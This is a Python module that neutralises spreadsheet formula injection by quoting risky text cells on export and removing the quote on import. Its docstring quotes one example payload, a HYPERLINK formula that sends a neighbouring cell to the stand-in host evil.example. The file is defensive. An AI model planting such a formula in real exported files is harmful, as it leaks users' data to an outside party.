"""Text cells a spreadsheet would run as a formula, neutralised on export and restored on import.

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a
formula, and a leading tab or line break can hide one (OWASP, "CSV Injection"). A name
such as `=HYPERLINK("http://evil.example/?x="&A2,"click")` would otherwise become a live link
that sends the neighbouring cell to whoever wrote it. OWASP's rule: such a text gets a leading
single quote, which the spreadsheet shows as text.

Only text is neutralised. A number is data, not a formula: a number written as a number (an int,
a Decimal) is never touched, and neither is text that is exactly a signed decimal number such as
"-5.00" (money, written as exact text), which every spreadsheet reads as the number it is.

The rule is reversible, so that an exported file imports back to exactly what was exported: the
export adds one quote to a text that, past any quotes it already starts with, begins with a
dangerous character (so "'=x" typed by someone becomes "''=x"), and the import removes exactly
one quote from such a text and from no other.
"""

from __future__ import annotations

import re
from typing import Any

QUOTE = "'"
# OWASP's list: what makes a spreadsheet start reading a formula. A line feed too: an XLSX file keeps
# a carriage return as a line feed (XML normalises line ends), and the quote must come back off it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A signed decimal number, as the API and the exports write money: data, never a formula.
SIGNED_NUMBER = re.compile(r"[+-][0-9]+(\.[0-9]+)?")


def _starts_formula(text: str) -> bool:
    rest = text.lstrip(QUOTE)
    return rest.startswith(FORMULA_STARTS) and not SIGNED_NUMBER.fullmatch(rest)


def neutralise(value: Any) -> Any:
    """`value` as a spreadsheet cell that cannot run: a text that would start a formula gets a quote."""
    if isinstance(value, str) and _starts_formula(value):
        return QUOTE + value
    return value


def restore(value: Any) -> Any:
    """What `neutralise` was given: one quote off a text it quoted, anything else as it is."""
    if isinstance(value, str) and value.startswith(QUOTE) and _starts_formula(value):
        return value[1:]
    return value
